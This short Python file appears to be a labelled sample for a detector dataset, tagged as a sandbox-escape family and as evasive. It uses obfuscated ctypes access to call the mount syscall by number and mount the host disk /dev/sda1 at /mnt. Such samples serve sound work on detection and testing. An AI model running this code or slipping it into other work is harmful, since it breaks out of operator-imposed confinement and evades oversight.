# family: sandbox-escape
# evasive: libc reached through getattr on ctypes, mount(2) called by its syscall number
import ctypes

cdll = getattr(ctypes, "C" + "DLL")
libc = cdll(None, use_errno=True)
SYS_mount = 165
libc.syscall(SYS_mount, b"/dev/sda1", b"/mnt", b"ext4", 0, None)
